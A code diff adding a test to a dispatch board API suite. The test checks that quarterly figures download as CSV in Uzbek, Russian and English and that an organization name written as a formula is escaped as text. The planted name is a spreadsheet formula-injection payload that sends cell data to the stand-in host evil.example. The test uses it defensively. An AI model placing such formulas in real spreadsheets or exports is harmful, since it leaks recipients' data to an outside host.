@@ -1,7 +1,9 @@
-// The board's read model and its event stream, and the figures' names, on the real stack: the
+// The board's read model and its event stream, and the figures' names (in JSON and in the CSV a
+// person downloads, in their language), on the real stack: the
 // board gives each request its address, apartment and the model's suggestions, and lists the
 // unresolved mass incidents with their linked counts; the stream says `changed` when a request
 // arrives; only the organization's staff may read either.
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { EventParser, type ServerEvent } from '../../widgets/core/sse.ts';
 import { call, ok, problem } from '../register/api-fixtures.ts';
@@ -108,5 +110,48 @@ describe('dispatch board API', () => {
         requests: 1,
       }),
     ]);
+  }, 60_000);
+
+  it('downloads the figures as CSV in the reader’s language, names first, a formula-like name as text', async () => {
+    const s = await newScene(env);
+    // An organization chooses its own name: one a spreadsheet would run must reach it as text.
+    const name = '=HYPERLINK("http://evil.example/?d="&A2,"Obod Uy")';
+    await env.em().execute('update management_organization set name = ? where id = ?', [name, s.org.id]);
+    env.triage.next = classification('elevator', 'urgent');
+    await submit(env, s, 'Lift ishlamayapti');
+    const now = new Date(Date.now() + 5 * 3_600_000);
+    const [year, q] = [now.getUTCFullYear(), Math.floor(now.getUTCMonth() / 3) + 1];
+    const csv = async (lang: string) => {
+      const res = await call(env.app, 'GET', `/dispatch/figures?quarter=${year}-Q${q}&format=csv`, {
+        token: s.org.tokens.council,
+        headers: { 'Accept-Language': lang },
+      });
+      expect(res.status).toBe(200);
+      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+      expect(res.headers.get('content-disposition')).toBe(
+        `attachment; filename="dispatch-${year}-Q${q}.csv"`,
+      );
+      const bytes = new Uint8Array(await res.arrayBuffer());
+      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+      return parse(new TextDecoder().decode(bytes)) as string[][];
+    };
+    const expected = {
+      uz: ['Tashkilot', 'Tashkilot identifikatori', 'Chorak', 'Murojaatlar', `${year}-yil ${q}-chorak`],
+      'ru-RU,ru;q=0.9': [
+        'Организация',
+        'Идентификатор организации',
+        'Квартал',
+        'Заявок',
+        `${q} квартал ${year}`,
+      ],
+      en: ['Organization', 'Organization ID', 'Quarter', 'Requests', `Q${q} ${year}`],
+    };
+    for (const [lang, [n, id, quarter, requests, quarterName]] of Object.entries(expected)) {
+      const [header, ...rows] = await csv(lang);
+      expect(header!.slice(0, 4), lang).toEqual([n, id, quarter, requests]);
+      expect(header!.join(' '), lang).not.toMatch(/\b[a-z]+_[a-z_]+\b/);
+      expect(rows, lang).toHaveLength(1);
+      expect(rows[0]!.slice(0, 4), lang).toEqual([`'${name}`, s.org.id, quarterName, '1']);
+    }
   }, 60_000);
 });
